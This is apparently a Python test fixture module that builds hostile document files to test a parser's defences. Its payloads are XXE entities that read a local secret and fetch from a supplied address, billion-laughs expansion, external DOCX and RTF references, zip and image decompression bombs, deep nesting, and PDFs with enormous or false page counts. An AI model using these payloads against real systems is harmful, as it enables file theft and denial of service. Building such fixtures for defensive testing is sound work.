"""Small files made to hurt who opens them. Each maker writes one file; the names say what they attack."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
from conftest import write_form

SIDE = 50_000
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


# -- what fetches and what tells --------------------------------------------------------------------


def word_with_entities(path: Path, secret: Path, address: str) -> None:
    """A paragraph that is another file, and a document type that lies on the net."""
    _with_document(
        path,
        f'<?xml version="1.0"?><!DOCTYPE w:document SYSTEM "{address}/a.dtd" [<!ENTITY f SYSTEM "{secret.as_uri()}">'
        f'<!ENTITY n SYSTEM "{address}/b">]><w:document xmlns:w="{_WORD}"><w:body>'
        "<w:p><w:r><w:t>&f;&n;</w:t></w:r></w:p></w:body></w:document>",
    )


def word_with_late_entities(path: Path, secret: Path) -> None:
    """The declaration stands behind more white space than a first look covers."""
    _with_document(
        path,
        f'<?xml version="1.0"?>{" " * 9000}<!DOCTYPE w:document [<!ENTITY f SYSTEM "{secret.as_uri()}">]>'
        f'<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:t>&f;</w:t></w:r></w:p></w:body></w:document>',
    )


def sheet_with_late_entities(path: Path, secret: Path) -> None:
    _with_late_type(path, f'<!ENTITY f SYSTEM "{secret.as_uri()}">', "f")


def sheet_of_laughs(path: Path) -> None:
    """Ten entities, each ten times the one before: a kilobyte that unfolds to ten gigabytes."""
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    _with_late_type(path, f'<!ENTITY l0 "1234567890">{laughs}', "l9")


def word_with_outside_parts(path: Path, secret: Path, address: str) -> None:
    """An honest form whose template, picture and inlaid text lie elsewhere."""
    write_form(path, "外链集群")
    kinds = {"attachedTemplate": f"{address}/t.dotm", "image": f"{address}/p.png", "aFChunk": secret.as_uri()}
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = "".join(
        f'<Relationship Id="rIdX{kind}" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
        for kind, target in kinds.items()
    )
    rels = "word/_rels/document.xml.rels"
    _replace(path, rels, lambda data: data.replace(b"</Relationships>", relations.encode() + b"</Relationships>"))
    chunk = b'<w:altChunk xmlns:r="%b" r:id="rIdXaFChunk"/><w:sectPr' % base.encode()
    _replace(path, "word/document.xml", lambda data: data.replace(b"<w:sectPr", chunk, 1))


def rich_text_with_outside_text(path: Path, secret: Path, address: str) -> None:
    """Fields that LibreOffice could follow."""
    path.write_bytes(
        rb"{\rtf1\ansi 1234.5 "
        + b'{\\field{\\*\\fldinst INCLUDETEXT "%b"}{\\fldrslt x}}' % str(secret).encode()
        + b'{\\field{\\*\\fldinst INCLUDEPICTURE "%b/p.png" \\\\d}{\\fldrslt x}}\\par}' % address.encode()
    )


# -- what unfolds -----------------------------------------------------------------------------------


def word_bomb(path: Path, megabytes: int = 300) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types>wordprocessingml</Types>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(megabytes):
                part.write(b" " * 1024**2)


def word_nested(path: Path, depth: int = 100_000) -> None:
    """Tables in cells of tables in cells."""
    inside = "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth
    _with_document(path, f'<w:document xmlns:w="{_WORD}"><w:body>{inside}</w:body></w:document>')


def picture_png(path: Path) -> None:
    """Zeros, one bit each: 300 MB of them in 300 KB."""
    packer = zlib.compressobj(9)
    row = bytes(1 + SIDE // 8)
    data = b"".join([packer.compress(row * 100) for _ in range(SIDE // 100)]) + packer.flush()
    head = struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", data), (b"IEND", b"")]
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + b"".join(
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
            for kind, body in chunks
        )
    )


def picture_tif(path: Path) -> None:
    """Every row is the same packed strip, pointed at 50,000 times."""
    strip = zlib.compress(bytes(SIDE))
    at = 8 + len(strip)
    offsets, counts = at, at + 4 * SIDE
    entries = [
        (256, 4, 1, SIDE), (257, 4, 1, SIDE), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1),
        (273, 4, SIDE, offsets), (277, 3, 1, 1), (278, 4, 1, 1), (279, 4, SIDE, counts),
    ]  # fmt: skip
    directory = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *one) for one in entries)
    path.write_bytes(
        struct.pack("<2sHI", b"II", 42, counts + 4 * SIDE)
        + strip
        + struct.pack("<I", 8) * SIDE
        + struct.pack("<I", len(strip)) * SIDE
        + directory
        + bytes(4)
    )


# -- what has no end --------------------------------------------------------------------------------


def pdf_with_a_wide_tree(path: Path) -> None:
    """100,000 pages in a file of a few kilobytes: five levels of ten references to one and the same child."""
    objects = ["<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(5):
        child = level + 3
        kids = f"{child} 0 R " * 10
        objects.append(f"<< /Type /Pages /Count {10 ** (5 - level)} /Kids [ {kids}] >>")
    objects.append("<< /Type /Page /Parent 6 0 R /MediaBox [0 0 595 842] >>")
    _write_pdf(path, objects)


def pdf_with_a_flat_tree(path: Path) -> None:
    kids = "3 0 R " * 100_000
    _write_pdf(
        path,
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            f"<< /Type /Pages /Count 100000 /Kids [ {kids}] >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ],
    )


def pdf_that_lies(path: Path, count: int) -> None:
    """One page, said to be many, or less than none."""
    _write_pdf(
        path,
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            f"<< /Type /Pages /Count {count} /Kids [3 0 R] >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            "/Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
            "<< /Length 38 >>\nstream\nBT /F 24 Tf 72 700 Td (12345.6) Tj ET\nendstream",
        ],
    )


def all_of_them(folder: Path, secret: Path, address: str) -> Iterator[str]:
    """Makes every attack in `folder`; gives their names."""
    folder.mkdir(parents=True)
    makers = {
        "外部实体.docx": lambda path: word_with_entities(path, secret, address),
        "迟到的实体.docx": lambda path: word_with_late_entities(path, secret),
        "迟到的实体.xlsx": lambda path: sheet_with_late_entities(path, secret),
        "层层展开.xlsx": sheet_of_laughs,
        "外部部件.docx": lambda path: word_with_outside_parts(path, secret, address),
        "外部文字.rtf": lambda path: rich_text_with_outside_text(path, secret, address),
        "炸弹.docx": word_bomb,
        "层层嵌套.docx": word_nested,
        "巨图.png": picture_png,
        "巨图.tif": picture_tif,
        "十万页树.pdf": pdf_with_a_wide_tree,
        "十万页.pdf": pdf_with_a_flat_tree,
        "谎称十亿页.pdf": lambda path: pdf_that_lies(path, 10**9),
        "谎称负页.pdf": lambda path: pdf_that_lies(path, -1),
    }
    for name, make in makers.items():
        make(folder / name)
        yield name


def _with_document(path: Path, document: str) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types>wordprocessingml</Types>")
        archive.writestr("word/document.xml", document)


def _with_late_type(path: Path, declarations: str, entity: str) -> None:
    """An honest sheet with one text, in place of which stands an entity declared late."""
    book = openpyxl.Workbook()
    book.active["A1"] = "TEXT"  # type: ignore[index]
    book.save(path)

    def changed(data: bytes) -> bytes:
        declared = f'<?xml version="1.0"?>{" " * 9000}<!DOCTYPE worksheet [{declarations}]><worksheet'
        _, _, root = data.partition(b"<worksheet")
        return declared.encode() + root.replace(b"TEXT", f"&{entity};".encode())

    _replace(path, "xl/worksheets/sheet1.xml", changed)


def _replace(path: Path, name: str, change: Callable[[bytes], bytes]) -> None:
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    members[name] = change(members[name])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)


def _write_pdf(path: Path, objects: list[str]) -> None:
    body = b"%PDF-1.7\n"
    places = []
    for number, text in enumerate(objects, start=1):
        places.append(len(body))
        body += f"{number} 0 obj\n{text}\nendobj\n".encode()
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    size = len(objects) + 1
    end = (
        f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{len(body)}\n"
    )
    path.write_bytes(body + end.encode() + b"%%EOF\n")
